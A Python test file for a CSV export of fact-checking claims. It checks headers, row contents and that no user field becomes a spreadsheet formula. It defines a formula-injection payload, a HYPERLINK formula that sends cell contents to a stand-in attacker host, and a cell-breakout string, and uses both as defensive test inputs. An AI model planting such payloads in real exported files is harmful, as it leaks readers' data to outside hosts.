"""The claims as a table: one a row, as Excel reads UTF-8, with nothing that runs."""

import csv
import io

import pytest

from annotations.domain.vocabulary import ClaimState
from annotations.reports.to_csv import COLUMNS, header, rows, to_csv
from tests.reports.parts import (
    anchor_part,
    article_part,
    capture_part,
    claim_part,
    evidence_part,
    judgement_part,
    report_of,
    source_part,
)

ATTACK = '=HYPERLINK("http://evil.example/?"&A1)'


def read(data):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_first_row_names_the_columns_and_rows_end_in_crlf():
    data = to_csv(report_of(claim_part()))
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == ",".join(column.name for column in COLUMNS)
    assert len(lines) == 3
    assert lines[-1] == ""


def test_every_column_says_what_stands_in_it():
    assert all(column.meaning for column in COLUMNS)
    assert len({column.name for column in COLUMNS}) == len(COLUMNS)


def test_a_claim_is_one_row():
    piece = evidence_part(source=source_part(title="The report"))
    verdicts = (judgement_part(label="Incorrect"), judgement_part(stale=True), judgement_part(superseded=True))
    claim = claim_part(
        3, decision=judgement_part(correction_notice="Twice."), verdicts=verdicts, evidence=(piece,), tags=("a", "b")
    )
    row = read(to_csv(report_of(claim)))[0]
    assert (row["number"], row["quote"], row["start"], row["end"]) == ("3", "met twice", "5", "14")
    assert (row["state"], row["rating"], row["rating_label"]) == ("decided", "confirmed", "Confirmed")
    assert (row["decided_by"], row["decided_at"]) == ("Mei Sato", "2026-11-24T10:41:00Z")
    assert (row["rationale"], row["correction_notice"], row["tags"]) == ("Two sources.", "Twice.", "a, b")
    assert row["verdicts"] == "Mei Sato: Incorrect\nMei Sato: Confirmed (on other words)"
    assert (row["evidence_count"], row["supports"], row["refutes"], row["context"]) == ("1", "1", "0", "0")
    assert "The report | https://example.org/report | “they met twice” (found)" in row["evidence"]
    assert "SHA-256 0123456789abcdef" in row["evidence"]


def test_a_claim_without_a_decision_has_empty_cells():
    row = read(to_csv(report_of(claim_part())))[0]
    assert (row["state"], row["rating"], row["decided_by"], row["evidence"]) == ("open", "", "", "")


def test_an_orphan_has_no_offsets():
    row = read(to_csv(report_of(claim_part(1, anchor_part(None, None, "gone"), state=ClaimState.STALE))))[0]
    assert (row["start"], row["end"], row["quote"]) == ("", "", "gone")


@pytest.mark.parametrize(
    ("column", "claim"),
    [
        ("summary", {"summary": ATTACK}),
        ("claimant", {"claimant_name": ATTACK}),
        ("tags", {"tags": (ATTACK,)}),
        ("rationale", {"decision": judgement_part(rationale=ATTACK)}),
        ("rating_label", {"decision": judgement_part(label=ATTACK)}),
        ("correction_notice", {"decision": judgement_part(correction_notice=ATTACK)}),
    ],
)
def test_no_field_of_a_claim_becomes_a_formula(column, claim):
    assert read(to_csv(report_of(claim_part(1, **claim))))[0][column] == f"'{ATTACK}"


def test_neither_the_title_nor_the_quote_becomes_a_formula():
    claim = claim_part(1, anchor_part(0, len(ATTACK), ATTACK))
    row = read(to_csv(report_of(claim, article=article_part(title="\u200b=1"))))[0]
    assert row["article_title"] == "'\u200b=1"
    assert row["quote"] == f"'{ATTACK}"


def test_people_cannot_break_out_of_their_cell():
    nasty = 'a","b\r\n=1+1,"c'
    assert read(to_csv(report_of(claim_part(1, summary=nasty))))[0]["summary"] == nasty


def test_entries_of_one_cell_stay_on_a_line_each():
    lost = capture_part(state="failed", sha256="")
    pieces = tuple(
        evidence_part(quote="two\nlines", source=source_part(title=title), capture=lost) for title in ("One", "Two")
    )
    lines = read(to_csv(report_of(claim_part(1, evidence=pieces))))[0]["evidence"].split("\n")
    assert [line.split(" | ")[1] for line in lines] == ["One", "Two"]


def test_several_reports_can_follow_one_header():
    table = header() + rows(report_of(claim_part(1))) + rows(report_of(claim_part(1), claim_part(2)))
    assert [row["number"] for row in csv.DictReader(io.StringIO(table, newline=""))] == ["1", "1", "2"]
